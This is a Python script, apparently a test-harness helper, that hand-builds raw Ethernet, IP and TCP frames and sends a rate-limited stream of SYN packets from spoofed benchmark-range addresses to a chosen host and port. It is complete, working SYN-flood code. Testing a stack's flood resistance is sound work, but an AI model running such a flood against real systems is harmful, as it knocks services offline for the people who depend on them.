# SPDX-License-Identifier: BSD-3-Clause
#
# syn_flood.py INTERFACE MAC ADDRESS PORT COUNT: sends so many SYNs from addresses of nobody,
# 198.18.0.64 and on, to a hardware and an IP address; some thousand a second. Ends by SIGTERM.
# Prints "ready" before it begins.
import random
import signal
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
interface, mac, address, port, count = sys.argv[1:4] + [int(word) for word in sys.argv[4:6]]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind((interface, 0))
target = socket.inet_aton(address)
ethernet = bytes.fromhex(mac.replace(":", "")) + b"\2\0\0\0\0\x99" + b"\x08\0"
choose = random.Random(1)
print("ready", flush=True)
for i in range(count):
    source = bytes((198, 18, 0, 64 + i % 190))
    tcp = struct.pack("!HHIIBBHHH", choose.randrange(1024, 65536), port, choose.getrandbits(32), 0,
                      0x60, 2, 64240, 0, 0) + b"\2\4\x05\xb4"
    tcp = tcp[:16] + struct.pack("!H", checksum(source + target + b"\0\6\0\x18" + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 44, 0, 0x4000, 64, 6, 0) + source + target
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    s.send(ethernet + ip + tcp)
    if i % 20 == 0:
        time.sleep(0.004)
while True:
    signal.pause()  # Python without a handler any more, at its own end, would be killed by it
